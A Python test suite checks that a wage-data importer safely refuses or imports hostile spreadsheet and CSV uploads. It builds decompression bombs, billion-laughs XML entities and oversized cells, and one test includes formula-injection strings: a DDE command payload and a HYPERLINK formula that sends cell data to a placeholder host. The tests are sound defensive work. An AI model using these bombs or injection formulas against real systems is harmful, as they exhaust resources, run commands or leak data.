"""Hostile uploads: each is imported or refused with a Chinese message, within 500 MB.

Every import runs in a child process with an address space cap (tests/core/hostile_files.py),
so a reader that materialises a far cell or inflates a bomb fails here with MemoryError
instead of taking the machine. Time is not asserted; the outcome and the peak are.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.core.hostile_files import (
    HEADER,
    cell,
    esc,
    repeat,
    row_xml,
    run_import,
    sheet_xml,
    write_xls,
    write_xlsx,
)
from tests.core.test_wage_import import PEOPLE

PEAK_MB = 500
GB = 2**30


def good_rows(n: int = 3, start: int = 2) -> list[bytes]:
    return [row_xml(1, HEADER)] + [
        row_xml(start + i, [p.name, "居民身份证", p.id_number, 8000, "202503"])
        for i, p in enumerate(PEOPLE[:n])
    ]


def refused(path: Path, *parts: str) -> str:
    out = run_import(path)
    assert out["ok"] is False, out
    message = str(out["message"])
    for part in parts:
        assert part in message, out
    assert out["peak_mb"] is not None and out["peak_mb"] < PEAK_MB, out
    assert out["child_peak_mb"] < PEAK_MB, out  # the calamine child, when there is one
    print(out)
    return message


def imported(path: Path, rows: int, errors: int = 0) -> dict[str, object]:
    out = run_import(path)
    assert out["ok"] is True, out
    assert (out["rows"], out["errors"]) == (rows, errors), out
    assert out["peak_mb"] < PEAK_MB and out["child_peak_mb"] < PEAK_MB, out
    print(out)
    return out


# ---------------------------------------------------------------- extent


def test_only_cell_at_the_last_row_and_column(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "far.xlsx", sheet_xml([b'<row r="1048576">' + cell("XFD1048576", 1) + b"</row>"]))
    assert path.stat().st_size < 4096
    refused(path, "未找到「证件号码」列")


def test_stray_cell_far_below_and_right_of_the_data(tmp_path: Path) -> None:
    body = [*good_rows(), b'<row r="20000">' + cell("XFD20000", "x") + b"</row>"]
    path = write_xlsx(tmp_path / "stray.xlsx", sheet_xml(body))
    imported(path, rows=3, errors=1)  # row 20000 is a row without 证件号码


def test_declared_dimension_is_not_trusted(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "dim.xlsx", sheet_xml(good_rows(), dimension="A1:XFD1048576"))
    imported(path, rows=3)


def test_rows_that_span_every_column(tmp_path: Path) -> None:
    wide = b"<row>" + b"<c><v>1</v></c>" * 16384 + b"</row>"
    body = [*good_rows(), *(wide for _ in range(2000))]
    path = write_xlsx(tmp_path / "wide.xlsx", sheet_xml(body))
    refused(path, "表格内容过多")


# ---------------------------------------------------------------- deflate bombs


def test_sheet_xml_bomb_of_value_rows(tmp_path: Path) -> None:
    body = [*good_rows(), *repeat(b"<row><c><v>1</v></c><c><v>2</v></c></row>", GB)]
    path = write_xlsx(tmp_path / "bomb.xlsx", sheet_xml(body))
    assert path.stat().st_size < 8 * 2**20
    refused(path, "表格超过 1,048,576 行")


def test_sheet_xml_bomb_of_value_cells(tmp_path: Path) -> None:
    row = b"<row>" + b"<c><v>1</v></c>" * 1000 + b"</row>"
    path = write_xlsx(tmp_path / "cells.xlsx", sheet_xml([*good_rows(), *repeat(row, GB)]))
    refused(path, "表格内容过多")


def test_sheet_xml_bomb_of_blank_styled_cells(tmp_path: Path) -> None:
    row = b"<row>" + b'<c s="1"/>' * 10000 + b"</row>"
    path = write_xlsx(tmp_path / "blank.xlsx", sheet_xml([*good_rows(), *repeat(row, GB)]))
    refused(path, "空白单元格过多")


def test_sheet_xml_bomb_of_whitespace(tmp_path: Path) -> None:
    body = [*good_rows(), *repeat(b" " * 4096, GB)]
    refused(write_xlsx(tmp_path / "ws.xlsx", sheet_xml(body)), "解压后")


def test_one_giant_cell(tmp_path: Path) -> None:
    giant = b'<row r="5"><c r="A5" t="inlineStr"><is><t>'
    body = [*good_rows(), giant, *repeat(b"A" * 4096, GB // 2), b"</t></is></c></row>"]
    refused(write_xlsx(tmp_path / "giant.xlsx", sheet_xml(body)), "第 5 行", "过长")


def test_shared_strings_bomb(tmp_path: Path) -> None:
    head = b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="3" uniqueCount="3">'
    shared = [head, b"<si><t>a</t></si>", *repeat(b"<si><t>x</t></si>", GB), b"</sst>"]
    body = [row_xml(1, HEADER), b'<row r="2"><c r="A2" t="s"><v>0</v></c></row>']
    refused(write_xlsx(tmp_path / "sst.xlsx", sheet_xml(body), shared), "文字")


def test_shared_strings_one_giant_string(tmp_path: Path) -> None:
    head = b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    shared = [head, b"<si><t>", *repeat("职".encode() * 2048, GB // 2), b"</t></si></sst>"]
    body = [row_xml(1, HEADER), b'<row r="2"><c r="A2" t="s"><v>0</v></c></row>']
    refused(write_xlsx(tmp_path / "sst1.xlsx", sheet_xml(body), shared), "文字")


def test_many_zip_members(tmp_path: Path) -> None:
    import zipfile

    path = write_xlsx(tmp_path / "members.xlsx", sheet_xml(good_rows()))
    with zipfile.ZipFile(path, "a", zipfile.ZIP_STORED) as z:
        for i in range(600_000):
            z.writestr(zipfile.ZipInfo(f"{i:x}"), b"")
    assert path.stat().st_size < 64 * 2**20
    refused(path, "压缩包")


# ---------------------------------------------------------------- entities


LAUGHS = (
    b'<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">'.encode() for i in range(8)
    )
    + b"]>"
)


def test_billion_laughs_in_the_sheet(tmp_path: Path) -> None:
    body = [*good_rows(), b'<row r="9"><c r="A9" t="inlineStr"><is><t>&i;</t></is></c></row>']
    refused(write_xlsx(tmp_path / "lol.xlsx", sheet_xml(body, prolog=LAUGHS)), "不安全")


def test_billion_laughs_in_shared_strings(tmp_path: Path) -> None:
    shared = [
        b'<?xml version="1.0"?>' + LAUGHS.replace(b"worksheet", b"sst"),
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&i;</t></si></sst>',
    ]
    body = [row_xml(1, HEADER), b'<row r="2"><c r="A2" t="s"><v>0</v></c></row>']
    refused(write_xlsx(tmp_path / "lol2.xlsx", sheet_xml(body), shared), "不安全")


# ---------------------------------------------------------------- xls


def test_xls_with_a_far_cell(tmp_path: Path) -> None:
    p = PEOPLE[0]
    cells = [(0, c, h) for c, h in enumerate(HEADER)]
    cells += [(1, 0, p.name), (1, 1, "居民身份证"), (1, 2, p.id_number), (1, 3, 8000.0), (1, 4, "202503")]
    cells += [(65535, 255, "x")]
    out = run_import(write_xls(tmp_path / "far.xls", cells))
    assert out["peak_mb"] is not None and out["peak_mb"] < PEAK_MB, out
    assert out["child_peak_mb"] < PEAK_MB, out
    print(out)
    if out["ok"]:
        assert (out["rows"], out["errors"]) == (1, 1), out
    else:
        assert "内存" in str(out["message"]) or "过多" in str(out["message"]), out


def test_small_xls_reads(tmp_path: Path) -> None:
    p = PEOPLE[0]
    cells = [(0, c, h) for c, h in enumerate(HEADER)]
    cells += [(1, 0, p.name), (1, 1, "居民身份证"), (1, 2, p.id_number), (1, 3, 8000.0), (1, 4, "202503")]
    imported(write_xls(tmp_path / "ok.xls", cells), rows=1)


# ---------------------------------------------------------------- csv


def write_csv(path: Path, *parts: bytes, total: int = 0, block: bytes = b"") -> Path:
    with path.open("wb") as out:
        out.write(parts[0])
        for chunk in repeat(block, total) if block else ():
            out.write(chunk)
        for part in parts[1:]:
            out.write(part)
    return path


def line(p: object) -> bytes:
    return f"{p.name},{p.id_number},8000,202503\n".encode()  # type: ignore[attr-defined]


HEAD = "姓名,证件号码,缴费工资,生效年月\n".encode()


def test_csv_of_blank_lines(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "blank.csv", HEAD + line(PEOPLE[0]), line(PEOPLE[1]), block=b"\n", total=60 * 2**20)
    out = imported(path, rows=2)
    assert out["total"] == 2


def test_csv_one_giant_line_of_commas(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "commas.csv", HEAD + line(PEOPLE[0]), b"\n", block=b",", total=60 * 2**20)
    refused(path, "第 3 行")


def test_csv_one_giant_field(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "field.csv", HEAD + b'x,"', b'"\n', block=b"y", total=60 * 2**20)
    refused(path, "第 2 行")


def test_csv_too_many_rows(tmp_path: Path) -> None:
    row = line(PEOPLE[0])
    path = write_csv(tmp_path / "rows.csv", HEAD, block=row, total=60 * 2**20)
    refused(path, "文件行数过多", "最多 200,000 行")


@pytest.mark.parametrize("ragged", [False, True])
def test_csv_many_short_cells(tmp_path: Path, ragged: bool) -> None:
    block = (b"1," * 15 + b"1\n") if not ragged else b"1\n1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1\n"
    path = write_csv(tmp_path / "cells.csv", HEAD, block=block, total=60 * 2**20)
    refused(path, "过多")


def test_formula_text_is_read_as_text(tmp_path: Path) -> None:
    """Values that look like formulas stay plain text on the way in (checked on the way out elsewhere)."""
    body = [row_xml(1, HEADER), row_xml(2, ['=HYPERLINK("http://x/?"&B2,"点击")', None, "=cmd|' /C calc'!A0", "@SUM(1)", "202503"])]
    path = write_xlsx(tmp_path / "f.xlsx", sheet_xml(body))
    out = imported(path, rows=0, errors=1)
    assert out["total"] == 1


# ---------------------------------------------------------------- the calamine way in


def test_one_long_shared_string_in_every_cell(tmp_path: Path) -> None:
    """calamine copies a shared string into each cell using it: 100,000 x 30 KB."""
    head = b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    shared = [head, b"<si><t>", b"9" * 30_000, b"</t></si>", *(b"<si><t>" + esc(h) + b"</t></si>" for h in HEADER), b"</sst>"]
    header = b'<row r="1">' + b"".join(f'<c r="{c}1" t="s"><v>{i + 1}</v></c>'.encode() for i, c in enumerate("ABCDE")) + b"</row>"
    body = [header, *(f'<row r="{n}"><c r="C{n}" t="s"><v>0</v></c><c r="D{n}" t="s"><v>0</v></c></row>'.encode() for n in range(2, 50_002))]
    out = run_import(write_xlsx(tmp_path / "amp.xlsx", sheet_xml(body), shared))
    assert out["peak_mb"] is not None and out["peak_mb"] < PEAK_MB, out
    assert out["ok"] is True and out["errors"] == 50_000, out
    print(out)


def test_grid_at_the_edge_of_the_calamine_bound(tmp_path: Path) -> None:
    """26 columns by 99,999 rows is the largest grid handed to calamine."""
    body = [*good_rows(), b'<row r="99999">' + cell("Z99999", "x") + b"</row>"]
    imported(write_xlsx(tmp_path / "edge.xlsx", sheet_xml(body)), rows=3, errors=1)
